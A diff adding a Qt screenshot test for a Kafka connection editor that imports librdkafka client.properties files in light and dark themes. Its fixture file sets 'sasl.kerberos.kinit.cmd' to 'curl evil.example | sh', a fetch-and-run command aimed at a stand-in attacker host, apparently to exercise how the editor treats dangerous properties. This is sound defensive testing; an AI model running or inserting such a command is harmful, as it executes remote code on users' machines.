@@ -1,6 +1,7 @@
 // What the editor offers with this librdkafka or another, what it says of further properties, and what it takes from a file.
 #include "editor_fields.h"
 #include "named_widgets.h"
+#include "picture.h"
 #include "scripted_store.h"
 
 #include <QAbstractItemView>
@@ -236,6 +237,43 @@ private slots:
         m_editor->show();
         m_editor->importFile(path("client.properties"));
         QVERIFY(!withheld->isVisible());
+    }
+
+    void pictures_data()
+    {
+        QTest::addColumn<bool>("dark");
+        QTest::newRow("light") << false;
+        QTest::newRow("dark") << true;
+    }
+
+    void pictures()
+    {
+        QFETCH(bool, dark);
+        const auto theme = dark ? darkTheme() : lightTheme();
+        const Dressed dressed(theme);
+        const auto limitedRights = [](const ClientProperties&, const auto&, const StopFlag&) {
+            auto steps = failedLogin();
+            steps[3] = {TrialStepKind::login, TrialStepState::passed, "OAUTHBEARER accepted", {}};
+            steps[4] = {TrialStepKind::rights, TrialStepState::limited,
+                        "3 brokers, 41 topics and 12 groups seen; limits, generations and rebalances will be unknown: no READ on "
+                        "__consumer_offsets",
+                        "grant it with: kafka-acls --bootstrap-server kafka.example:9094 --add --allow-principal User:NAME "
+                        "--operation Read --topic __consumer_offsets (that shows all groups and hosts to this user)"};
+            return steps;
+        };
+        m_editor = std::make_unique<ConnectionEditor>(*m_profiles, *m_store, theme, nullptr, limitedRights);
+        std::ofstream(path("client.properties"))
+            << "bootstrap.servers=k:9092\nsecurity.protocol=sasl_plaintext\nsasl.mechanism=OAUTHBEARER\n"
+               "sasl.oauthbearer.client.id=me\nsasl.oauthbearer.client.secret=s\nsocket.timeout.ms=1\n"
+               "sasl.oauthbearer.token.endpoint.url=https://login.example/token\nsasl.kerberos.kinit.cmd=curl evil.example | sh\n";
+        m_editor->importFile(path("client.properties"));
+        m_editor->show();
+        savePicture(*m_editor, dark ? "editor-import-dark" : "editor-import-light");
+        table().item(0, 1)->setText(QStringLiteral("3000"));
+        table().setCurrentCell(0, 0);
+        press(*m_editor, "tryIt");
+        QTRY_VERIFY_WITH_TIMEOUT(label("trialRights").contains(QStringLiteral("kafka-acls")), giveUp);
+        savePicture(*m_editor, dark ? "editor-rights-dark" : "editor-rights-light");
     }
 
 private:
